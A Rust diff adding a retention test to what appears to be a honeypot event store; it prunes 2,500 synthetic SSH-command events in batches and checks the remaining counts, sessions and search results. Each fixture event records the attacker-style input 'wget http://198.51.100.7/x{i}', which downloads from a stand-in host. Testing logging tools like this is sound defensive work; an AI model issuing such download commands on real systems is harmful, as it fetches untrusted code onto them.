@@ -727,3 +727,64 @@ nectar_store::on_both_backends! {
         assert_eq!(top[0].count, 2);
     }
 }
+
+nectar_store::on_both_backends! {
+    /// Retention deletes the events older than the cutoff in batches, and the
+    /// sessions that ended before it; what is newer stays, searchable.
+    #[tokio::test]
+    async fn retention_removes_old_events_and_sessions_in_batches(db, dir) {
+        let _ = &dir;
+        let (store, writer, _task) = open(&db).await;
+        // event(i): one second apart from a fixed start; sessions of 10 events.
+        let events: Vec<Event> = (0..2_500)
+            .map(|i| {
+                event(i, Kind::SshCommand)
+                    .with("session", format!("s{}", i / 10))
+                    .with("input", format!("wget http://198.51.100.7/x{i}"))
+            })
+            .collect();
+        writer.submit(events.clone()).await.unwrap();
+        let cutoff = events[1_000].time;
+        let report = store
+            .prune(cutoff, 300, std::time::Duration::ZERO)
+            .await
+            .unwrap();
+        assert_eq!(report.events, 1_000);
+        assert_eq!(report.batches, 4, "{report:?}");
+        assert_eq!(report.sessions, 100, "{report:?}");
+        assert_eq!(
+            store.count_events(&EventFilter::default()).await.unwrap(),
+            1_500
+        );
+        let oldest = store
+            .list_events(&EventFilter::default(), None, 10_000)
+            .await
+            .unwrap()
+            .events
+            .into_iter()
+            .map(|e| e.time)
+            .min()
+            .unwrap();
+        assert_eq!(oldest, cutoff);
+        // Search finds the kept events and none of the removed ones.
+        let search = |text: &str| EventFilter {
+            text: Some(text.into()),
+            ..EventFilter::default()
+        };
+        assert_eq!(store.count_events(&search("x999")).await.unwrap(), 0);
+        assert_eq!(store.count_events(&search("x1000")).await.unwrap(), 1);
+        assert_eq!(store.count_events(&search("wget")).await.unwrap(), 1_500);
+        let sessions = store
+            .list_sessions(&SessionFilter::default(), None, 1_000)
+            .await
+            .unwrap()
+            .sessions;
+        assert_eq!(sessions.len(), 150);
+        // Nothing left to do: a second pass removes nothing.
+        let again = store
+            .prune(cutoff, 300, std::time::Duration::ZERO)
+            .await
+            .unwrap();
+        assert_eq!(again, nectar_store::PruneReport::default());
+    }
+}
